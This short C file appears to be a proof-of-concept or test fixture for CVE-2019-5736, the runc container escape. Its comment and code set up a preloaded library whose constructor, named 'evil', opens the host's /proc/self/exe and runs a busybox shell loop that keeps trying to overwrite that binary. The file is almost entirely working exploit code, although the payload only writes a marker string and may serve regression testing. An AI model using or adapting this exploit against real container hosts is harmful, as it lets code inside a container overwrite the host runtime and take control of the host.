/*
 * preload.c - a library that an image has loaded into each program (/etc/ld.so.preload), also into
 * /proc/self/exe, which is the host's (CVE-2019-5736): there it keeps the file open over an exec of
 * /overwrite-fd, which writes to it.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/prctl.h>
#include <unistd.h>

__attribute__((constructor)) static void evil(void)
{
	prctl(PR_SET_PDEATHSIG, 0);
	dup2(open("/proc/self/exe", O_RDONLY), 9);
	execl("/bin/busybox", "sh", "-c",
	      "echo ready; i=0; while [ $i -lt 40 ]; do i=$((i+1));"
	      " (echo evil >/proc/self/fd/9) 2>/tmp/why && break; sleep 0.01; done; : >/tmp/over",
	      (char *)0);
}
